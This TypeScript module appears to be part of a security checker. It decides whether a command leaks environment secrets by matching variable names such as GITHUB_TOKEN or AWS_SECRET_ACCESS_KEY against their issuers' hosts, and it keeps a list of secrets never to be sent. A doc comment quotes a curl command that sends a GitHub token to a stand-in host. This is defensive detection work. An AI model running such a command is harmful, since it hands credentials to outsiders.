import { secretName } from './secret-name.ts'
import type { Target } from './target.ts'

/** Secrets by their variables' names, and the hosts of whoever issued them. Sources: the issuers' own guides. */
const issuers: readonly (readonly [name: RegExp, hosts: RegExp])[] = [
  [
    /^(?:GITHUB|GH)_/,
    /(?:^|\.)(?:github\.com|githubusercontent\.com|ghcr\.io|githubcopilot\.com|models\.ai\.azure\.com)$/,
  ],
  [/^(?:GITLAB|CI_JOB)_/, /gitlab/],
  [/^OPENAI_/, /(?:^|\.)(?:openai\.com|openai\.azure\.com)$/],
  [/^ANTHROPIC_/, /(?:^|\.)(?:anthropic\.com|claude\.ai)$/],
  [/^AWS_/, /(?:^|\.)(?:amazonaws\.com(?:\.cn)?|aws\.amazon\.com|api\.aws)$/],
  [/^(?:NPM|NODE_AUTH)_/, /(?:^|\.)(?:npmjs\.(?:com|org)|npm\.pkg\.github\.com)$/],
  [/^PYPI_/, /(?:^|\.)pypi\.org$/],
  [/^SLACK_/, /(?:^|\.)slack\.com$/],
  [/^STRIPE_/, /(?:^|\.)stripe\.com$/],
  [/^(?:HF|HUGGINGFACE|HUGGING_FACE)_/, /(?:^|\.)(?:huggingface\.co|hf\.co)$/],
  [/^(?:CLOUDFLARE|CF)_/, /(?:^|\.)cloudflare\.com$/],
  [/^VERCEL_/, /(?:^|\.)vercel\.com$/],
  [/^(?:DIGITALOCEAN|DO)_/, /(?:^|\.)digitalocean\.com$/],
  [/^(?:GOOGLE|GEMINI)_/, /(?:^|\.)(?:googleapis\.com|google\.com)$/],
  [/^SENTRY_/, /sentry/],
  [/^(?:DOCKER|DOCKERHUB)_/, /(?:^|\.)docker\.(?:com|io)$/],
]

/** Secrets that no service is ever told: what they open is opened on this machine, or by a signature. */
const neverSent =
  /^(?:AWS_SECRET_ACCESS_KEY|\w*PRIVATE_KEY|SUDO_PASSWORD|ROOT_PASSWORD|PGPASSWORD|MYSQL_PWD)$/

/** A source of a stream: what a variable of the environment holds that is a secret by its name. */
export type SecretVariable = `variable:${string}`

/** The source that a variable is, where its name says that it holds a secret; null for any other. */
export function secretVariable(name: string): SecretVariable | null {
  return secretName.test(name) ? `variable:${name}` : null
}

/**
 * Whether a secret of the environment goes to somebody who did not issue it: `curl -H "Authorization: Bearer
 * $GITHUB_TOKEN" https://elsewhere.example`. A host of this machine or of a private network may be anyone's own service.
 */
export function leaks(sources: readonly string[], { host, addressClass }: Target): boolean {
  if (addressClass !== 'public') return false
  return sources.some((source) => {
    const [, name] = /^variable:(.*)$/s.exec(source) ?? []
    if (name === undefined) return false
    const own = issuers.find(([pattern]) => pattern.test(name))?.[1]
    return neverSent.test(name) || (own !== undefined && !own.test(host))
  })
}
